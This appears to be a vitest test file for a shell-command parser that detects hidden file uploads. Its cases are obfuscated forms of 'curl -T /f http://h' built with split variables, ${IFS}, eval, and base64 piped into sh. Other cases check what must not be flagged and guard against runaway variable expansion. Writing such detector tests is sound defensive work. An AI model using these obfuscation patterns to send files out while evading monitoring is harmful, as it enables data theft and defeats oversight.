import { expect, test } from 'vitest';
import { parseCommand } from './parse-command.js';
import { ShellVariables } from './shell-variables.js';
import { splitShell } from './split-shell.js';

const CURL = { tool: 'curl', direction: 'upload', protocol: 'http', host: 'h', sourceFiles: ['/f'] };
const encoded = Buffer.from('curl -T /f http://h').toString('base64');

test.each([
  ['t=curl; $t -T /f http://h'],
  ["t='curl -T /f'; ${t} http://h"],
  ['a=cu;b=rl;$a$b -T /f http://h'],
  ['a=cu;b=${a}rl;$b -T /f http://h'],
  ['u=http://h; curl -T /f $u'],
  ['export o="-T /f"; curl $o http://h'],
  ['f=/f\nh=h\ncurl -T "$f" "http://$h"'],
  ['curl${IFS}-T${IFS}/f${IFS}http://h'],
  ['exec_create: sh -c t=curl; $t -T /f http://h'],
  [`echo ${encoded} | base64 -d | sh`],
  [`echo ${encoded} | base64 --decode | bash`],
  [`echo ${encoded} | openssl base64 -d -A | sh`],
  [`echo ${encoded} | openssl enc -d -a | sh`],
  [`base64 -d <<< ${encoded} | sh`],
  [`echo ${encoded} | busybox base64 -d | sh`],
  [`eval "$(echo ${encoded} | base64 -d)"`],
  [`sh -c "$(echo ${encoded} | base64 -d)"`],
  [`$(echo ${encoded} | base64 -d)`],
  [`\`echo ${encoded} | base64 -d\``],
  [`c=${encoded}; echo $c | base64 -d | sh`],
  [`echo ${Buffer.from(`echo ${encoded} | base64 -d | sh`).toString('base64')} | base64 -d | sh`],
])('%s', (line) => {
  expect(parseCommand(line).transfers).toMatchObject([CURL]);
});

test.each([
  ['what is assigned for one program is not the shell’s', 't=curl true; $t -T /f http://h'],
  ['what comes from elsewhere is not known', 't=$(cat /t); $t -T /f http://h'],
  ['what was known is forgotten', 't=curl; t=$1; $t -T /f http://h'],
  ['what is no base64 is not decoded', 'echo "curl -T /f http://h" | base64 -d | sh'],
  ['encoding is no decoding', `echo ${encoded} | base64 | sh`],
  ['what another program writes is not known', `cat /f | base64 -d | sh`],
])('%s', (_, line) => {
  expect(parseCommand(line).transfers).toEqual([]);
});

test('a variable a million times is no million copies of its value', () => {
  const script = splitShell(`a=${'x'.repeat(4000)}; echo ${'$a '.repeat(100_000)}`);
  const variables = new ShellVariables();
  const characters = script.commands
    .map((command) => variables.expand(command).argv.join('').length)
    .reduce((sum, each) => sum + each, 0);
  expect(characters).toBeLessThan(300_000);
});

test('values that hold one another do not double for ever', () => {
  const doubling = Array.from({ length: 200 }, (_, index) => `v${index + 1}=$v${index}$v${index}`).join('; ');
  expect(parseCommand(`v0=xx; ${doubling}; curl -T $v200 http://h`).transfers).toHaveLength(1);
});

test('a name that is cut may become another', () => {
  const { transfers } = parseCommand('a="-T /f http://h"; curl $a', { truncated: true });
  expect(transfers).toMatchObject([{ direction: 'unknown', evidence: 'curl $a' }]);
});
